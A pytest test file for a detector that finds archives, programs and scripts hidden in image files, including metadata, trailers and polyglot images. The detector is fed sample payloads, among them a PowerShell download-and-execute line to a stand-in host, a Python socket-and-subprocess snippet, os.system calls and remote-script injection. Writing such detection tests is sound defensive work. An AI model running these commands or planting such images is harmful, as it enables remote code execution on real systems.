from __future__ import annotations

import base64
import random
import struct
import zlib
from typing import TYPE_CHECKING

import numpy as np
import pytest
from PIL import Image

from corrupt_samples import payloads
from corrupt_samples.encode import avif, chunk, encode, exif, jpeg, jpeg_segment, mpo, png, profile, tiff, webp
from corrupt_samples.payloads import ALL, HTML, PHP, SCRIPT, SHELL, pdf, zip_of
from corrupt_samples.pictures import photo
from corrupt_samples.surgery import jpeg_inserted, jpeg_patched, png_changed, png_inserted
from sanitize.probe import avif_items, beside, payload

if TYPE_CHECKING:
    from tests.conftest import Fired

APP0, APP1, APP2, APP13, COM, DQT = 0xE0, 0xE1, 0xE2, 0xED, 0xFE, 0xDB
XMP = b"http://ns.adobe.com/xap/1.0/\0"
RULE = "embedded-payload"
NAMES = {
    "zip": "a ZIP archive",
    "jar": "a Java archive",
    "apk": "an Android app",
    "office": "an Office document",
    "gzip": "a gzip archive",
    "xz": "an XZ archive",
    "bzip2": "a bzip2 archive",
    "zstd": "a Zstandard archive",
    "7z": "a 7-Zip archive",
    "rar": "a RAR archive",
    "tar": "a tar archive",
    "cab": "a Windows cabinet",
    "ole": "a Windows installer or an old Office document",
    "ar": "a Unix archive",
    "elf": "a Linux program",
    "pe": "a Windows program",
    "mach-o": "a macOS program",
    "java-class": "a Java class",
    "wasm": "a WebAssembly module",
    "dex": "an Android program",
    "shortcut": "a Windows shortcut",
    "pdf": "a PDF",
    "shell": "a script with an interpreter line",
    "batch": "a Windows batch file",
    "php": "PHP code",
    "server-page": "code of a server page",
    "html": "an HTML page",
    "html-script": "a script in HTML",
}


def with_segment(marker: int, content: bytes, seed: str = "a") -> bytes:
    return jpeg_inserted(jpeg(photo(seed)), DQT, jpeg_segment(marker, content))


def with_chunk(kind: bytes, content: bytes) -> bytes:
    return png_inserted(png(photo("a")), b"IDAT", chunk(kind, content))


def riff_with(content: bytes, kind: bytes) -> bytes:
    data = webp(photo("a"))
    data += kind + struct.pack("<I", len(content)) + content + bytes(len(content) & 1)
    return data[:4] + struct.pack("<I", len(data) - 8) + data[8:]


def places(found: dict[str, tuple[str, str]]) -> dict[str, str]:
    """What is said of the kind and the place, without bytes and details."""
    return {path: message.partition(":")[0] for path, (_severity, message) in found.items()}


def test_the_message_says_what_and_where_and_what_to_do(fired: Fired) -> None:
    picture = jpeg(photo("a"))
    archive = zip_of("a.txt", "b.txt")
    assert fired(RULE, {"a.jpg": picture + archive}) == {
        "a.jpg": (
            "error",
            f"a ZIP archive after the end of the JPEG: {len(archive)} bytes from byte {len(picture)} on, 2 files, the first"
            " `a.txt`; save the picture anew without it, or leave it out",
        )
    }


@pytest.mark.parametrize("before", [b"", bytes(7), b"\r\n"], ids=["at once", "after zeros", "on the next line"])
def test_finds_every_kind_after_the_end(fired: Fired, before: bytes) -> None:
    picture = jpeg(photo("a"))
    files = {f"{kind}.jpg": picture + before + content for kind, content in ALL.items()}
    expected = {f"{kind}.jpg": f"{name} after the end of the JPEG" for kind, name in NAMES.items()}
    assert places(fired(RULE, files)) == expected


def test_finds_it_after_the_end_of_every_format_whose_end_is_known(fired: Fired) -> None:
    picture = photo("a")
    pictures = {
        "a.png": png(picture),
        "a.gif": encode(picture, "GIF"),
        "a.webp": webp(picture),
        "a.bmp": encode(picture, "BMP"),
        "a.tif": tiff(picture),
        "jpeg.tif": tiff(picture, compression="jpeg"),
        "a.avif": avif(picture),
        "a.jp2": encode(picture, "JPEG2000"),
        "a.j2k": encode(picture, "JPEG2000", no_jp2=True),
        "a.ico": encode(picture, "ICO", sizes=[(48, 48)]),
        "a.qoi": encode(picture, "QOI"),
        "a.ppm": encode(picture, "PPM"),
        "a.sgi": encode(picture, "SGI"),
        "progressive.jpg": jpeg(picture, progressive=True),
        "cmyk.jpg": jpeg(picture.convert("CMYK")),
        "restarts.jpg": jpeg(picture, restart_marker_rows=1),
        "mpo.jpg": mpo(picture),
    }
    files = {
        f"{number} {name}": content + hidden
        for name, content in pictures.items()
        for number, hidden in enumerate((ALL["zip"], ALL["elf"], PHP, HTML))
    }
    found = places(fired(RULE, files))
    assert found.keys() == files.keys()
    assert {place.rpartition(" the ")[0].rpartition(" after the end ")[2] for place in found.values()} == {"of"}


def test_finds_archives_where_the_end_of_the_image_cannot_be_told(fired: Fired) -> None:
    picture = photo("a")
    files = {
        "a.tga": encode(picture, "TGA") + ALL["zip"],
        "a.dds": encode(picture, "DDS") + ALL["jar"],
        "a.pcx": encode(picture.quantize(64), "PCX") + ALL["office"],
    }
    assert fired(RULE, files).keys() == files.keys()


def test_finds_every_kind_in_the_items_of_an_avif(fired: Fired) -> None:
    files = {}
    for kind, content in ALL.items():
        described = Image.Exif()
        described[0x9286] = b"ASCII\0\0\0" + content
        files |= {
            f"{kind}.xmp.avif": avif(photo("a"), xmp=content),
            f"{kind}.exif.avif": avif(photo("a"), exif=described),
        }
    assert fired(RULE, files).keys() == files.keys()


def test_items_of_an_avif_on_top_of_each_other_are_read_once() -> None:
    def box(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I4s", 8 + len(content), kind) + content

    items, content = 50, b"<x:xmpmeta/>" * 100
    named = b"".join(box(b"infe", b"\2\0\0\0" + struct.pack(">HH", item, 0) + b"mimeXMP\0") for item in range(items))

    def file(place: int) -> bytes:
        placed = b"".join(struct.pack(">HHHII", item, 0, 1, place, len(content)) for item in range(items))
        places = box(b"iloc", bytes(4) + b"\x44\0" + struct.pack(">H", items) + placed)
        meta = box(b"meta", bytes(4) + box(b"iinf", bytes(4) + struct.pack(">H", items) + named) + places)
        return box(b"ftyp", b"avif\0\0\0\0avif") + meta + box(b"mdat", content)

    data = file(len(file(0)) - len(content))
    found = avif_items.find(data)
    assert {(kind, data[start:end]) for kind, start, end in found} == {(b"mime", content)}
    assert sum(end - start for _kind, start, end in found) <= len(data)


@pytest.mark.parametrize("before", [b"\0", b"a note: ", b"\xfe" * 200])
@pytest.mark.parametrize("marker", [COM, APP1, APP13])
def test_finds_a_small_archive_behind_something_else_in_a_short_header(
    marker: int, before: bytes, fired: Fired
) -> None:
    found = fired(RULE, {"a.jpg": with_segment(marker, before + ALL["zip"])})
    assert found.keys() == {"a.jpg"}
    assert "a ZIP archive" in found["a.jpg"][1]


def test_an_end_marker_behind_it_hides_nothing(fired: Fired) -> None:
    picture = jpeg(photo("a"))
    files = {
        "comment.jpg": picture + zip_of(comment=b"\xff\xd9"),
        "php.jpg": picture + PHP + b"\xff\xd9",
        "second.jpg": picture + ALL["elf"] + jpeg(photo("b")),
        "between.jpg": picture + jpeg(photo("b")) + ALL["zip"] + jpeg(photo("c")),
    }
    assert places(fired(RULE, files)) == {
        "comment.jpg": "a ZIP archive after the end of the JPEG",
        "php.jpg": "PHP code after the end of the JPEG",
        "second.jpg": "a Linux program after the end of the JPEG",
        "between.jpg": "a ZIP archive after the end of the JPEG",
    }


def test_an_archive_that_has_lost_its_directory_is_one_all_the_same(fired: Fired) -> None:
    files = {"a.jpg": jpeg(photo("a")) + zip_of("a.txt", "b.txt")[:100]}
    assert "`a.txt`, without a directory" in fired(RULE, files)["a.jpg"][1]


def test_a_trailer_like_a_camera_s_hides_nothing(fired: Fired) -> None:
    footer = b"SEFH" + bytes(20) + struct.pack("<I", 24) + b"SEFT"
    files = {"zip.jpg": jpeg(photo("a")) + ALL["zip"] + footer, "php.jpg": jpeg(photo("a")) + PHP + footer}
    assert fired(RULE, files).keys() == files.keys()


def test_finds_code_in_comments_and_metadata_of_a_jpeg(fired: Fired) -> None:
    data = Image.Exif()
    data[0x13B] = PHP.decode()  # the artist
    files = {
        "com.jpg": jpeg(photo("a"), comment=PHP),
        "upper.jpg": jpeg(photo("a"), comment=PHP.replace(b"php", b"PHP")),
        "short.jpg": jpeg(photo("a"), comment=b"<?=print(1)?>"),
        "shorter.jpg": jpeg(photo("a"), comment=b"<?=`$a[0]`?>"),
        "variable.jpg": jpeg(photo("a"), comment=b"<? $a ?>"),
        "html.jpg": jpeg(photo("a"), comment=b"<html><body>nothing</body></html>"),
        "script.jpg": jpeg(photo("a"), comment=SCRIPT),
        "handler.jpg": jpeg(photo("a"), comment=b"<img src=x onerror=print(1)>"),
        "open.jpg": jpeg(photo("a"), comment=b"<script>print(1)//"),
        "source.jpg": jpeg(photo("a"), comment=b"<SCRIPT SRC=//example.org/a.js>"),
        "shell.jpg": jpeg(photo("a"), comment=b"\n" + SHELL),
        "artist.jpg": jpeg(photo("a"), exif=data),
        "xmp.jpg": with_segment(APP1, XMP + b"<x:xmpmeta><rdf:RDF>" + PHP + b"</rdf:RDF></x:xmpmeta>"),
        "iptc.jpg": with_segment(APP13, b"Photoshop 3.0\x008BIM\4\4\0\0\0\0\0\x36\x1c\2\x78\0\x31" + HTML + b"\0"),
        "app9.jpg": with_segment(0xE9, b"note " + PHP),
        "icc.jpg": jpeg(photo("a"), icc_profile=profile(PHP.decode())),
        "gzip.jpg": jpeg(photo("a"), comment=ALL["gzip"]),
        "elf.jpg": with_segment(0xE8, ALL["elf"]),
    }
    assert places(fired(RULE, files)) == {
        "com.jpg": "PHP code in the comment of the JPEG",
        "upper.jpg": "PHP code in the comment of the JPEG",
        "short.jpg": "PHP code in the comment of the JPEG",
        "shorter.jpg": "PHP code in the comment of the JPEG",
        "variable.jpg": "PHP code in the comment of the JPEG",
        "html.jpg": "an HTML page in the comment of the JPEG",
        "script.jpg": "a script in HTML in the comment of the JPEG",
        "handler.jpg": "a script in HTML in the comment of the JPEG",
        "open.jpg": "a script in HTML in the comment of the JPEG",
        "source.jpg": "a script in HTML in the comment of the JPEG",
        "shell.jpg": "a script with an interpreter line in the comment of the JPEG",
        "artist.jpg": "PHP code in the EXIF data of the JPEG",
        "xmp.jpg": "PHP code in the XMP data of the JPEG",
        "iptc.jpg": "an HTML page in the APP13 of the JPEG",
        "app9.jpg": "PHP code in the APP9 of the JPEG",
        "icc.jpg": "PHP code in the ICC profile of the JPEG",
        "gzip.jpg": "a gzip archive in the comment of the JPEG",
        "elf.jpg": "a Linux program in the APP8 of the JPEG",
    }


def test_finds_an_archive_that_is_an_icc_profile(fired: Fired) -> None:
    hidden = zip_of("a.txt", comment=b"the rest of the picture")
    files = {"a.jpg": with_segment(APP2, b"ICC_PROFILE\0\1\1" + bytes(1024) + hidden)}
    assert places(fired(RULE, files)) == {"a.jpg": "a ZIP archive in the ICC profile of the JPEG"}


def exif_value(content: bytes, tag: int = 0x927C) -> bytes:
    """EXIF data that hold something in a value of bytes: a maker note unless another tag is named."""
    data = Image.Exif()
    data[0x8769] = {tag: content}
    return data.tobytes()


@pytest.mark.parametrize("kind", [kind for kind in ALL if kind not in ("php", "server-page", "html", "html-script")])
def test_finds_archives_and_programs_in_metadata_of_every_format(fired: Fired, kind: str) -> None:
    hidden, picture = ALL[kind], photo("a", 64, 64)
    tag = {65_000: hidden}
    files = {
        "note.jpg": jpeg(picture, exif=exif_value(hidden)),
        "remark.jpg": jpeg(picture, exif=exif_value(b"ASCII\0\0\0" + hidden, 0x9286)),
        "profile.jpg": with_segment(APP2, b"ICC_PROFILE\0\1\1" + hidden),
        "note.png": png(picture, exif=exif_value(hidden)),
        "note.webp": webp(picture, exif=exif_value(hidden)),
        "tag.tif": tiff(picture, tiffinfo=tag),
        "tag-of-a-large.tif": tiff(photo("a", 320, 240), tiffinfo=tag),
        "gap.bmp": with_gap(encode(picture, "BMP"), hidden),
    }
    if kind not in ("shell", "batch", "zstd"):  # which say too little to be looked for anywhere
        files["profile.png"] = with_chunk(b"iCCP", b"name\0\0" + zlib.compress(bytes(140) + hidden))
        files["xmp.jpg"] = with_segment(APP1, XMP + b"<x:xmpmeta>" + hidden + bytes(1))
        files["xmp.png"] = with_chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0<x:xmpmeta>" + hidden + bytes(1))
    found = fired(RULE, files)
    assert {path: message.partition(" in the ")[0] for path, (_severity, message) in found.items()} == dict.fromkeys(
        files, NAMES[kind]
    )


@pytest.mark.parametrize("before", [b"\0", b"\n", b"payload: ", random.Random(0).randbytes(64)])
def test_finds_archives_and_programs_behind_something_else_where_anything_may_stand(
    fired: Fired, before: bytes
) -> None:
    # A script says too little to be looked for anywhere.
    kinds = [
        kind for kind in ALL if kind not in ("shell", "batch", "zstd", "php", "server-page", "html", "html-script")
    ]
    files = {}
    for kind in kinds:
        hidden = before + ALL[kind]
        files |= {
            f"{kind}-comment.jpg": with_segment(COM, hidden),
            f"{kind}-segment.jpg": with_segment(0xE5, hidden),
            f"{kind}-chunk.png": with_chunk(b"prVt", hidden),
            f"{kind}-chunk.webp": riff_with(hidden, b"NOTE"),
        }
    found = fired(RULE, files)
    assert {path: message.partition(" in the ")[0] for path, (_severity, message) in found.items()} == {
        path: NAMES[path.rpartition("-")[0]] for path in files
    }


def with_gap(bmp: bytes, content: bytes) -> bytes:
    """A BMP whose pixels begin later, behind something else."""
    (pixels,) = struct.unpack_from("<I", bmp, 10)
    return bmp[:10] + struct.pack("<I", pixels + len(content)) + bmp[14:pixels] + content + bmp[pixels:]


def test_finds_an_archive_in_a_value_of_a_profile(fired: Fired) -> None:
    whole = bytearray(profile("a"))
    place = struct.unpack_from(">I", whole, 136)[0]
    hidden = zip_of("a.txt")
    whole[136:144] = struct.pack(">II", len(whole), 8 + len(hidden))
    assert place < len(whole)
    files = {"a.jpg": with_segment(APP2, b"ICC_PROFILE\0\1\1" + bytes(whole) + b"data\0\0\0\0" + hidden)}
    assert places(fired(RULE, files)) == {"a.jpg": "a ZIP archive in the ICC profile of the JPEG"}


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ("JavaScript", b"\nvar s = document.createElement('script'); s.src = '//x/x.js'; document.body.append(s);\n"),
        ("VBScript", b'\r\nSet shell = CreateObject("WScript.Shell")\r\nshell.Run "calc"\r\n'),
        ("Python code", b"\nimport os, sys\nos.system('id')\n"),
        ("Python code", b"import socket, subprocess\ns = socket.socket()\ns.connect(('x', 1))\n"),
        ("PowerShell code", b"\r\nIEX (New-Object Net.WebClient).DownloadString('http://x/a')\r\n"),
    ],
)
def test_finds_code_without_a_tag_after_the_end_and_where_it_is_all_of_a_text(
    fired: Fired, name: str, code: bytes
) -> None:
    files = {
        "a.jpg": jpeg(photo("a")) + code,
        "a.png": png(photo("a")) + code,
        "comment.jpg": jpeg(photo("a"), comment=code),
        "comment.gif": encode(photo("a"), "GIF", comment=code),
        "text.png": with_chunk(b"tEXt", b"Comment\0" + code),
        "packed.png": with_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(code)),
        "utf8.png": with_chunk(b"iTXt", b"Comment\0\0\0\0\0" + code),
    }
    assert places(fired(RULE, files)) == {
        "a.jpg": f"{name} after the end of the JPEG",
        "a.png": f"{name} after the end of the PNG",
        "comment.jpg": f"{name} in the comment of the JPEG",
        "comment.gif": f"{name} in the comment of the GIF",
        "text.png": f"{name} in the chunk tEXt of the PNG",
        "packed.png": f"{name} in the chunk zTXt of the PNG",
        "utf8.png": f"{name} in the chunk iTXt of the PNG",
    }


@pytest.mark.parametrize("kind", ALL)
def test_finds_every_kind_in_extensions_of_a_gif_which_are_cut_to_pieces(fired: Fired, kind: str) -> None:
    def extension(label: int, content: bytes, name: bytes = b"") -> bytes:
        pieces = [name, *(content[at : at + 255] for at in range(0, len(content), 255))]
        return bytes((0x21, label)) + b"".join(bytes((len(piece),)) + piece for piece in pieces if piece) + b"\0"

    animation = encode(photo("a"), "GIF")
    content = random.Random(kind).randbytes(3) * 100 + ALL[kind] if kind in ("zip", "tar") else ALL[kind]
    files = {
        "comment.gif": animation[:-1] + extension(0xFE, content) + b";",
        "application.gif": animation[:-1] + extension(0xFF, content, b"ANYTHING1.0") + b";",
    }
    assert {file: said.partition(" in the ")[2] for file, said in places(fired(RULE, files)).items()} == {
        "comment.gif": "comment of the GIF",
        "application.gif": "application extension of the GIF",
    }


# What people and programs write beside pictures, plots and diagrams.
_SAID = [
    b"Bulb removed\nfrom socket, broken",
    b"This picture was decoded\nfrom base64 on a Sunday",
    b"import sys\nimport numpy as np\nimport matplotlib.pyplot as plt\nplt.plot(x)\nplt.savefig('a.png')",
    b"Plot of eval(loss) vs. epoch, and alert(s) in red",
    b"Fig. 3: document.cookie stolen; the browser shows alert(1), and window.location and document.location",
    b"@startuml\nBrowser -> Server: document.cookie\n@enduml",
    b"graph of require('fs') dependencies",
    b"Screenshot of PowerShell: how to use Invoke-WebRequest in Windows 11",
    b"IEX (Indian Energy Exchange) price chart",
    b'made by macro CreateObject("Excel.Application") chart export',
    b"Mean over os.system calls\nimport os grid reference",
]


def test_is_silent_about_code_that_data_quote(fired: Fired) -> None:
    workflow = b'{"nodes": [{"type": "script", "text": "eval(x)", "code": "document.body"}],\n "import": "os"}'
    page = b"[page]\nscript = eval(page)\n"
    prompt = b"a robot that wants to import os, and evaluates (sys) its windows, document style, 4k"
    files = {
        "workflow.png": with_chunk(b"tEXt", b"workflow\0" + workflow),
        "packed.png": with_chunk(b"zTXt", b"workflow\0\0" + zlib.compress(workflow)),
        "settings.jpg": jpeg(photo("a"), comment=page),
        "prompt.png": with_chunk(b"tEXt", b"parameters\0" + prompt),
        "prompt.gif": encode(photo("a"), "GIF", comment=prompt),
        **{f"{number}.jpg": jpeg(photo("a"), comment=said) for number, said in enumerate(_SAID)},
        **{f"{number}.png": with_chunk(b"tEXt", b"Source\0" + said) for number, said in enumerate(_SAID)},
    }
    assert fired(RULE, files) == {}


def test_quotes_nothing_that_stands_behind_the_part_where_code_is() -> None:
    found = payload.text(PHP + b"VV", 0, len(PHP))
    assert found is not None
    assert found.detail == f"`{PHP.decode()}`"


def test_is_silent_about_dark_pixels_which_are_signs_in_any_order(fired: Fired) -> None:
    chance = np.random.default_rng(0)
    dark = [Image.fromarray(chance.normal(62, spread, (120, 120, 3)).astype(np.uint8)) for spread in (2, 6, 15)]
    files = {
        f"{number}.{extension}": encode(picture, kind)
        for number, picture in enumerate(dark)
        for kind, extension in (("BMP", "bmp"), ("PPM", "ppm"), ("TGA", "tga"), ("TIFF", "tif"))
    }
    assert fired(RULE, files) == {}


def test_what_was_made_to_be_read_for_long_is_read_once(fired: Fired) -> None:
    packed = chunk(b"zTXt", b"a\0\0" + zlib.compress(b"<script>" * (1 << 17), 9))
    picture = png(photo("a"))
    overlaid = b"".join(struct.pack("<HHII", 60_000 + number, 7, 300_000, 8) for number in range(1000))
    overlapping = (
        b"II*\0" + struct.pack("<I", 300_008) + b"<?php " * 50_000 + struct.pack("<H", 1000) + overlaid + bytes(4)
    )
    assert beside.look(overlapping, "tiff").payload is None
    files = {
        "packed.png": picture[:33] + packed * 20 + picture[33:],
        "openings.jpg": jpeg(photo("b")) + b"<script>" * 500_000,
        "entries.jpg": jpeg(photo("c")) + b"PK\3\4\xff\xff" * 4_100 + (b"PK\5\6" + bytes(18)) * 4_100,
    }
    assert fired(RULE, files) == {}


def test_is_silent_about_prose_after_the_end(fired: Fired) -> None:
    prose = (
        b"Taken from the window. To import a system of my own, I alert everybody; see document 7 (location unknown)."
    )
    assert fired(RULE, {"a.jpg": jpeg(photo("a")) + prose}) == {}


def test_finds_code_in_chunks_of_a_png(fired: Fired) -> None:
    files = {
        "tEXt.png": with_chunk(b"tEXt", b"Comment\0" + PHP),
        "zTXt.png": with_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(HTML)),
        "iTXt.png": with_chunk(b"iTXt", b"Comment\0\0\0en\0\0" + SCRIPT),
        "packed.png": with_chunk(b"iTXt", b"Comment\0\1\0en\0Note\0" + zlib.compress(PHP)),
        "shell.png": with_chunk(b"tEXt", b"Comment\0" + SHELL),
        "unknown.png": with_chunk(b"hiDe", PHP),
        "zip.png": with_chunk(b"hiDe", ALL["zip"]),
        "elf.png": with_chunk(b"hiDe", ALL["elf"]),
        "eXIf.png": png(photo("a"), exif=exif(1) + PHP),
    }
    assert places(fired(RULE, files)) == {
        "tEXt.png": "PHP code in the chunk tEXt of the PNG",
        "zTXt.png": "an HTML page in the chunk zTXt of the PNG",
        "iTXt.png": "a script in HTML in the chunk iTXt of the PNG",
        "packed.png": "PHP code in the chunk iTXt of the PNG",
        "shell.png": "a script with an interpreter line in the chunk tEXt of the PNG",
        "unknown.png": "PHP code in the chunk hiDe of the PNG",
        "zip.png": "a ZIP archive in the chunk hiDe of the PNG",
        "elf.png": "a Linux program in the chunk hiDe of the PNG",
        "eXIf.png": "PHP code in the chunk eXIf of the PNG",
    }


def test_finds_an_archive_behind_the_packed_pixels_of_a_png(fired: Fired) -> None:
    hidden = png_changed(png(Image.new("L", (64, 64), 9)), b"IDAT", lambda content: content + ALL["zip"])
    assert places(fired(RULE, {"a.png": hidden})) == {"a.png": "a ZIP archive in the chunk IDAT of the PNG"}


def test_finds_code_in_other_formats(fired: Fired) -> None:
    picture = photo("a")
    box = struct.pack(">I4s", 8 + len(PHP), b"free") + PHP
    bitmap = encode(picture, "BMP")
    gap = struct.pack("<I", 54 + len(HTML))
    files = {
        "comment.gif": encode(picture, "GIF", comment=PHP),
        "chunk.webp": riff_with(ALL["zip"], b"HIDE"),
        "code.webp": riff_with(PHP, b"HIDE"),
        "free.avif": avif(picture) + box,
        "free.jp2": encode(picture, "JPEG2000")[:12] + encode(picture, "JPEG2000")[12:] + box,
        "gap.bmp": bitmap[:10] + gap + bitmap[14:54] + HTML + bitmap[54:],
        "description.tif": tiff(picture, description=SCRIPT.decode()),
        "comment.ppm": b"P6\n# " + HTML + b"\n96 96\n255\n" + picture.tobytes(),
    }
    assert places(fired(RULE, files)) == {
        "comment.gif": "PHP code in the comment of the GIF",
        "chunk.webp": "a ZIP archive in the chunk HIDE of the WebP",
        "code.webp": "PHP code in the chunk HIDE of the WebP",
        "free.avif": "PHP code in the box free of the AVIF",
        "free.jp2": "PHP code in the box free of the JPEG 2000",
        "gap.bmp": "an HTML page in the gap before the pixels of the BMP",
        "description.tif": "a script in HTML in the tags of the TIFF",
        "comment.ppm": "an HTML page in the header of the Netpbm picture",
    }


def test_finds_images_that_are_scripts_too(fired: Fired) -> None:
    picture = photo("a")
    code = b"*/=1;console.log(1);//"
    animation = encode(picture, "GIF")
    bitmap = encode(picture, "BMP")
    drawn = jpeg(picture)
    frame = b"\xff\xd8\xff\xe0/*" + drawn[6:20] + bytes(0x2F2A - 16)
    files = {
        "a.gif": animation[:6] + b"/*" + animation[8:] + code,
        "a.bmp": bitmap[:2] + b"/*" + bitmap[4:] + code,
        "a.jpg": frame + jpeg_segment(COM, b"*/=1;console.log(1)/*") + drawn[20:-2] + b"\xff\xd9",
    }
    assert places(fired(RULE, files)) == {
        "a.gif": "JavaScript after the end of the GIF",
        "a.bmp": "JavaScript after the end of the BMP",
        "a.jpg": "JavaScript in the comment of the JPEG",
    }


def test_finds_images_that_are_documents_and_archives_too(fired: Fired) -> None:
    picture = jpeg(photo("a"))
    document = pdf()
    header, rest = document[:40], document[40:]
    as_tar = payloads.tar_with_name(b"\xff\xd8\xff\xfe\x01\xfc")[:512] + picture[2:]
    disc = (picture + bytes(0x8000))[:0x8000] + payloads.iso_descriptor()
    files = {
        "whole.jpg": jpeg(photo("a"), comment=document),
        "apart.jpg": jpeg(photo("a"), comment=header) + rest,
        "tar.jpg": as_tar,
        "disc.jpg": disc,
        "jar.gif": encode(photo("a"), "GIF") + ALL["jar"],
    }
    assert places(fired(RULE, files)) == {
        "whole.jpg": "a PDF in the comment of the JPEG",
        "apart.jpg": "a PDF in the comment of the JPEG",
        "tar.jpg": "a tar archive that is a JPEG, too",
        "disc.jpg": "a CD image that is a JPEG, too",
        "jar.gif": "a Java archive after the end of the GIF",
    }


def test_is_silent_about_ordinary_comments(fired: Fired) -> None:
    comments = [
        b"CREATOR: gd-jpeg v1.0 (using IJG JPEG v62), quality = 80\n",
        b"Optimized by JPEGmini 3.9.20.0L Internal 0xbc7a1e2f",
        b"File source: https://example.org/wiki/File:A.jpg",
        b'<a href="https://example.org/?a=1&b=2">A photo</a>, <b>2009</b>',
        b"Created with GIMP",
        b"Lavc58.54.100",
        b"AppleMark\n",
        b"<CREATOR: XV Version 3.10a Rev: 12/29/94 Quality = 75, Smoothing = 0>",
        b"# a heading, and !important",
        b"#!",
        b"if a < b and b > c: print(a)",
        b"<script",
        b"How to use <?php in HTML",
        b"Learn <html> and <!DOCTYPE html> in ten days",
        b"A <script> or an <iframe> may hide in a picture",
        b"<% of the whole, <?> and <? of what ?>",
        b"PK",
        b"MZ is how it begins",
        b"Rar!",
        b"\xff\xd9",
        "<héros> & « café »".encode(),
        b"<title>not a page</title>",
        b"x" * 20_000,
    ]
    files = {f"{number}.jpg": jpeg(photo("a"), comment=comment) for number, comment in enumerate(comments)}
    assert fired(RULE, files) == {}


def test_is_silent_about_pages_that_xmp_data_tell_of(fired: Fired) -> None:
    inside = [
        b"&lt;html&gt;&lt;script&gt;x()&lt;/script&gt;",
        b"<![CDATA[<html><body>A caption</body></html>]]>",
        b"<html xmlns='http://www.w3.org/1999/xhtml'>rich text</html>",
        base64.b64encode(jpeg(photo("b")) + HTML),
    ]
    packet = (
        b'<?xpacket begin="\xef\xbb\xbf" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
        b"<rdf:RDF><rdf:Description>%s</rdf:Description></rdf:RDF></x:xmpmeta>" + b" " * 2000 + b'<?xpacket end="w"?>'
    )
    files = {f"{number}.jpg": with_segment(APP1, XMP + packet % text) for number, text in enumerate(inside)}
    files |= {
        f"{number}.png": with_chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + packet % text)
        for number, text in enumerate(inside)
    }
    assert fired(RULE, files) == {}


MAGICS = (
    b"PK\3\4", b"PK\5\6", b"PK\1\2", b"MZ", b"#!", b"#!/", b"\x7fELF", b"\x1f\x8b\x08", b"Rar!\x1a\x07", b"BZh9", b"%PDF-",
    b"\xca\xfe\xba\xbe", b"\xfe\xed\xfa\xcf", b"\0asm", b"ustar", b"MSCF", b"<?", b"<%", b"<?=", b"\xfd7zXZ\0",
    b"7z\xbc\xaf\x27\x1c", b"CD001", b"\x28\xb5\x2f\xfd", b"*/", b"/*", b"!<arch>\n",
)  # fmt: skip


def littered(seed: str, size: int) -> bytes:
    """Random bytes in which every magic stands several times."""
    chance = random.Random(seed)
    data = bytearray(chance.randbytes(size))
    for magic in MAGICS * 8:
        at = chance.randrange(size - 16)
        data[at : at + len(magic)] = magic
    return bytes(data)


def test_is_silent_about_magics_in_data_that_may_hold_any_bytes(fired: Fired) -> None:
    noise = littered("noise", 60_000)
    files = {
        "exif.jpg": with_segment(APP1, exif(1) + noise),
        "icc.jpg": with_segment(APP2, b"ICC_PROFILE\0\1\1" + noise),
        "photoshop.jpg": with_segment(APP13, b"Photoshop 3.0\x008BIM\4\4\0\0" + struct.pack(">I", len(noise)) + noise),
        "fpxr.jpg": with_segment(APP2, b"FPXR\0\0" + noise),
        "c2pa.jpg": with_segment(0xEB, b"JP\0\1" + noise),
        "thermal.jpg": with_segment(0xE3, noise),
        "app7.jpg": with_segment(0xE7, b"HUAWEI\0\0" + noise),
        "private.png": with_chunk(b"prVW", noise),
        "raw.ppm": b"P6\n100 200\n255\n" + noise,
        "private.webp": riff_with(noise, b"NOTE"),
    }
    assert fired(RULE, files) == {}


def test_is_silent_about_bytes_after_the_end_without_structure(fired: Fired) -> None:
    picture = jpeg(photo("a"))
    files = {f"{number}.jpg": picture + littered(str(number), 60_000) for number in range(20)}
    for magic in MAGICS:
        files[f"{magic.hex()}.jpg"] = picture + magic + bytes(range(40, 90)) * 20
    assert fired(RULE, files) == {}


def test_is_silent_about_what_cameras_append(fired: Fired) -> None:
    picture = jpeg(photo("a"))
    video = (
        struct.pack(">I4s4sI", 16, b"ftyp", b"mp42", 0) + struct.pack(">I4s", 60_008, b"mdat") + littered("v", 60_000)
    )
    files = {
        "mpo.jpg": mpo(photo("a")),
        "two.jpg": picture + jpeg(photo("b"), exif=exif(6), comment=b"second"),
        "video.jpg": picture + video,
        "samsung.jpg": picture + video + b"SEFH" + bytes(20) + struct.pack("<I", 24) + b"SEFT",
        "text.jpg": picture + b"taken in May, < 10 km from home; see https://example.org/",
        "xml.jpg": picture + b'<?xml version="1.0"?><note>nothing</note>',
    }
    assert fired(RULE, files) == {}


def test_a_c_comment_is_how_an_x_pixmap_begins(fired: Fired) -> None:
    pixmap = (
        b'/* XPM */\nstatic char *a[] = {\n"2 2 2 1",\n"a c #000000",\n"b c #FFFFFF",\n/* pixels */\n"ab",\n"ba"};\n'
    )
    files = {"a.xpm": pixmap, "a.xbm": encode(photo("a").convert("1", dither=0), "XBM")}
    assert fired(RULE, files) == {}


def test_a_picture_full_of_less_than_signs_is_only_a_picture(fired: Fired) -> None:
    grey = Image.new("L", (900, 900), ord("<"))
    assert fired(RULE, {"a.bmp": encode(grey, "BMP"), "a.pgm": encode(grey, "PPM"), "a.tif": tiff(grey)}) == {}
    assert fired(RULE, {"b.pgm": encode(grey, "PPM") + PHP}).keys() == {"b.pgm"}


def test_a_width_that_reads_as_a_comment_is_only_a_width(fired: Fired) -> None:
    animation = encode(photo("a"), "GIF")
    files = {"a.gif": animation[:6] + b"/*" + animation[8:], "a.jpg": jpeg_patched(jpeg(photo("a")), APP0, 11, b"\1\2")}
    assert fired(RULE, files) == {}
